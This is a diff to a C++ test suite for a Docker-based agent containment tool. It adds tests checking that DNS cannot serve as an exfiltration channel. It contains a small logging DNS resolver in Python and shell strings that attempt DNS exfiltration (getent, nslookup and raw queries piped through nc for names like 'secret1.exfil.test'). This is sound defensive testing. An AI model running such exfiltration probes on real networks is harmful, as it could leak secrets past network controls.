@@ -25,6 +25,7 @@
 #include <unistd.h>
 
 #include <chrono>
+#include <cstdio>
 #include <filesystem>
 #include <fstream>
 #include <memory>
@@ -99,7 +100,7 @@ class DockerContain : public ::testing::Test {
       return;
     }
     daemon_ = d->release();
-    if (auto st = daemon_->build_image(kImage, {ACP_VM_CLIENT}); !st) {
+    if (auto st = daemon_->build_image(kImage, {ACP_VM_CLIENT, "/usr/bin/getent"}); !st) {
       skip_reason_ = new std::string("the agent image did not build: " + st.error().message());
       return;
     }
@@ -137,10 +138,11 @@ class DockerContain : public ::testing::Test {
   }
 
   void TearDown() override {
-    if (origin_.pid > 0) {
-      ::kill(origin_.pid, SIGTERM);
-      origin_.finish();
-    }
+    for (Proc* p : {&origin_, &resolver_ns_, &resolver_lo_})
+      if (p->pid > 0) {
+        ::kill(p->pid, SIGTERM);
+        p->finish();
+      }
     if (!ctl_net_.empty()) daemon_->docker({"network", "rm", ctl_net_});
     ctl_net_.clear();
     if (!dir_.empty()) {
@@ -240,7 +242,7 @@ class DockerContain : public ::testing::Test {
   std::string ctl_net_, ctl_gw_;
   bool ctl_v6_ = false;
   acp::vmtest::Responder responder_;
-  Proc origin_;
+  Proc origin_, resolver_ns_, resolver_lo_;
 };
 
 DockerDaemon* DockerContain::daemon_ = nullptr;
@@ -326,6 +328,9 @@ TEST_F(DockerContain, StatusShowsTheDockerModeLineWhileItRuns) {
   EXPECT_NE(st.out.find("Network: 🔒 Isolated (Docker)"), std::string::npos) << st.out;
   EXPECT_NE(st.out.find("container:  acp-"), std::string::npos) << st.out;
   EXPECT_NE(st.out.find("ACPD-"), std::string::npos) << st.out;
+  EXPECT_NE(st.out.find("dns:        the container's, answered on the gateway: "),
+            std::string::npos)
+      << st.out;
   auto js = run({ACP_BINARY, "status", "--json"});
   auto j = nlohmann::json::parse(js.out, nullptr, false);
   ASSERT_FALSE(j.is_discarded()) << js.out;
@@ -534,6 +539,162 @@ TEST_F(DockerContain, ChildrenAndDaemonsAreWalledAndDieWithTheSession) {
   EXPECT_NE(value_of(dl.out, "daemon"), "") << dl.out;
   std::this_thread::sleep_for(1500ms);
   EXPECT_EQ(responder_.accepted(), 2u);
+  expect_nothing_left();
+}
+
+// ---- Name resolution: DNS is an exfiltration channel ----
+
+// A resolver that answers NXDOMAIN over UDP and TCP on addr:53 and appends "Q <tag> <name>" to
+// the log for every query that reaches it.
+constexpr const char* kLoggingResolver =
+    "import socket, struct, sys, threading\n"
+    "addr, tag, log = sys.argv[1], sys.argv[2], sys.argv[3]\n"
+    "def name(d):\n"
+    "    i, labels = 12, []\n"
+    "    while i < len(d) and d[i]:\n"
+    "        labels.append(d[i + 1:i + 1 + d[i]].decode('ascii', 'replace'))\n"
+    "        i += 1 + d[i]\n"
+    "    with open(log, 'a') as f: f.write('Q %s %s\\n' % (tag, '.'.join(labels).lower()))\n"
+    "    return d[:2] + b'\\x81\\x83' + d[4:6] + b'\\0\\0\\0\\0\\0\\0' + d[12:i + 5]\n"
+    "def tcp(t):\n"
+    "    while True:\n"
+    "        c, _ = t.accept()\n"
+    "        c.settimeout(2)\n"
+    "        try:\n"
+    "            n = struct.unpack('>H', c.recv(2))[0]\n"
+    "            r = name(c.recv(n))\n"
+    "            c.sendall(struct.pack('>H', len(r)) + r)\n"
+    "        except Exception: pass\n"
+    "        c.close()\n"
+    "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+    "u.bind((addr, 53))\n"
+    "t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+    "t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
+    "t.bind((addr, 53))\n"
+    "t.listen(8)\n"
+    "threading.Thread(target=tcp, args=(t,), daemon=True).start()\n"
+    "open(log, 'a').write('READY %s\\n' % tag)\n"
+    "while True:\n"
+    "    d, src = u.recvfrom(2048)\n"
+    "    u.sendto(name(d), src)\n";
+
+// An A query for `name` as printf(1) escapes, with DNS-over-TCP's length prefix when asked.
+std::string dns_query_escaped(const std::string& name, bool tcp) {
+  std::string q = {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
+  size_t start = 0;
+  while (start <= name.size()) {
+    size_t dot = name.find('.', start);
+    if (dot == std::string::npos) dot = name.size();
+    q.push_back(static_cast<char>(dot - start));
+    q += name.substr(start, dot - start);
+    start = dot + 1;
+  }
+  q += std::string{0, 0, 1, 0, 1};
+  if (tcp) q = std::string{0, static_cast<char>(q.size())} + q;
+  std::string out;
+  char buf[8];
+  for (unsigned char c : q) {
+    std::snprintf(buf, sizeof buf, "\\%03o", c);
+    out += buf;
+  }
+  return out;
+}
+
+// Every way the agent can ask a name: its own resolver (glibc, through docker's embedded DNS
+// at 127.0.0.11 on a user-defined network), and raw queries over UDP and TCP to the embedded
+// DNS, to the gateway (the host) and to a resolver behind the host (RESOLVER).
+std::string dns_attempts(const std::string& resolver) {
+  std::string s = "cat /etc/resolv.conf | sed 's/^/RESOLV:/'; ";
+  s += "getent hosts secret1.exfil.test; echo getent=$?; ";
+  int n = 2;
+  for (const std::string& server : {std::string("127.0.0.11"), std::string("$GW"), resolver}) {
+    s += "nslookup secret" + std::to_string(n++) + ".exfil.test " + server + " >/dev/null 2>&1; ";
+    s += "printf '" + dns_query_escaped("secret" + std::to_string(n++) + ".exfil.test", true) +
+         "' | timeout 3 nc " + server + " 53 >/dev/null 2>&1; ";
+  }
+  return s + "echo DONE";
+}
+
+// Measured on docker 20.10 (issue 16): with --dns=0.0.0.0 nothing left either; the container's
+// DNS now points at the session's responder on the gateway (docs/backends.md, "Name
+// resolution"). The agent's own resolver (glibc, through docker's embedded DNS at 127.0.0.11)
+// gets a synthetic address for a name the policy may allow and NXDOMAIN for the others, and no
+// query of the agent (glibc's; raw ones over UDP and TCP to 127.0.0.11, to the gateway and to
+// a resolver behind the host) reaches a resolver on the host's loopback (where a dockerd that
+// forwards from the host's namespace would go) nor one behind the host. The control (the same
+// image on a plain internal network whose dockerd forwards to that resolver) shows the
+// resolvers hear what reaches them.
+TEST_F(DockerContain, NoDnsQueryOfTheAgentReachesAResolver) {
+  auto ns = acp::vmtest::NetnsHost::create();
+  ASSERT_TRUE(ns.ok()) << ns.error().message();
+  ASSERT_TRUE(acp::vmtest::sh("ip netns exec " + (*ns)->name() + " ip route add default via " +
+                              (*ns)->host_addr4()));
+  const std::string log = dir_ + "/resolver.log";
+  resolver_ns_ = Proc::start({"ip", "netns", "exec", (*ns)->name(), "/usr/bin/python3", "-c",
+                              kLoggingResolver, (*ns)->addr4(), "ns", log},
+                             dir_ + "/resolver-ns.out");
+  resolver_lo_ = Proc::start({"/usr/bin/python3", "-c", kLoggingResolver, "127.0.0.1", "lo", log},
+                             dir_ + "/resolver-lo.out");
+  for (int i = 0; i < 100 && (slurp(log).find("READY ns") == std::string::npos ||
+                              slurp(log).find("READY lo") == std::string::npos);
+       ++i)
+    std::this_thread::sleep_for(50ms);
+  ASSERT_NE(slurp(log).find("READY ns"), std::string::npos) << slurp(dir_ + "/resolver-ns.out");
+  ASSERT_NE(slurp(log).find("READY lo"), std::string::npos) << slurp(dir_ + "/resolver-lo.out");
+
+  policy_path_ = policy(
+      "default: deny\nrules:\n  - match: { kind: http, host: \"allowed.exfil.test\" }\n"
+      "    action: allow\n");
+  auto w = in_wall(
+      std::string("getent ahostsv4 allowed.exfil.test | head -n 1 | sed 's/^/ALLOWED=/'; ") +
+      "echo TCPGW=$(printf '" + dns_query_escaped("allowed.exfil.test", true) +
+      "' | timeout 3 nc $GW 53 | wc -c); " + dns_attempts((*ns)->addr4()));
+  EXPECT_NE(w.out.find("DONE"), std::string::npos) << w.out;
+  EXPECT_EQ(value_of(w.out, "ALLOWED").rfind("198.1", 0), 0u) << w.out;  // 198.18.0.0/15
+  EXPECT_EQ(value_of(w.out, "getent"), "2") << w.out;                    // NXDOMAIN
+  EXPECT_NE(value_of(w.out, "TCPGW"), "0") << w.out;                     // answered over TCP too
+  std::string seen = slurp(log);
+  EXPECT_EQ(seen.find("Q "), std::string::npos) << seen << "\nagent:\n" << w.out;
+  EXPECT_EQ(seen.find("exfil"), std::string::npos) << seen;
+
+  // Control: docker's own DNS settings forward the agent's lookups; the resolver hears them.
+  ensure_control_network(false);
+  auto c =
+      run({"/usr/bin/docker", "-H", daemon_->host(), "run", "--rm", "--network=" + ctl_net_,
+           "--dns=" + (*ns)->addr4(), "--env=HTTP_PROXY=http://" + ctl_gw_ + ":1", kImage,
+           "/bin/sh", "-c", std::string(kGw) + "getent hosts control.exfil.test; echo getent=$?"});
+  EXPECT_NE(slurp(log).find("Q ns control.exfil.test"), std::string::npos)
+      << slurp(log) << "\ncontrol:\n"
+      << c.out;
+  expect_nothing_left();
+}
+
+// The session's responder answers only its own network: a container on another network that
+// reaches the gateway (the control network has no firewall) gets no reply, while the session's
+// own agent is answered.
+TEST_F(DockerContain, TheSessionsDnsAnswersOnlyItsOwnNetwork) {
+  policy_path_ = policy("default: deny\n");
+  ::chmod((dir_ + "/ws").c_str(), 0777);
+  const std::string hold = dir_ + "/ws/hold";
+  std::ofstream(hold) << "";
+  Proc p = Proc::start(contain(
+      {"/bin/sh", "-c",
+       "echo $HTTP_PROXY > /workspace/proxy; while [ -e /workspace/hold ]; do sleep 0.1; done; "
+       "nslookup own.exfil.test $(cat /workspace/gw) 2>&1 | sed 's/^/OWN:/'"},
+      {"--workspace=" + dir_ + "/ws", "--writable"}));
+  for (int i = 0; i < 200 && slurp(dir_ + "/ws/proxy").empty(); ++i)
+    std::this_thread::sleep_for(50ms);
+  std::string gw = slurp(dir_ + "/ws/proxy");
+  ASSERT_EQ(gw.rfind("http://", 0), 0u) << "the container did not start: " << gw;
+  gw = gw.substr(7, gw.rfind(':') - 7);
+  std::ofstream(dir_ + "/ws/gw") << gw;
+  auto c = in_control("nslookup foreign.exfil.test " + gw + " 2>&1 | sed 's/^/FOREIGN:/'");
+  fs::remove(hold);
+  p.finish();
+  EXPECT_EQ(c.out.find("NXDOMAIN"), std::string::npos) << c.out;
+  EXPECT_EQ(c.out.find("198.1"), std::string::npos) << c.out;
+  EXPECT_NE(c.out.find("FOREIGN:"), std::string::npos) << c.out;
+  EXPECT_NE(p.out.find("NXDOMAIN"), std::string::npos) << p.out;
   expect_nothing_left();
 }
 
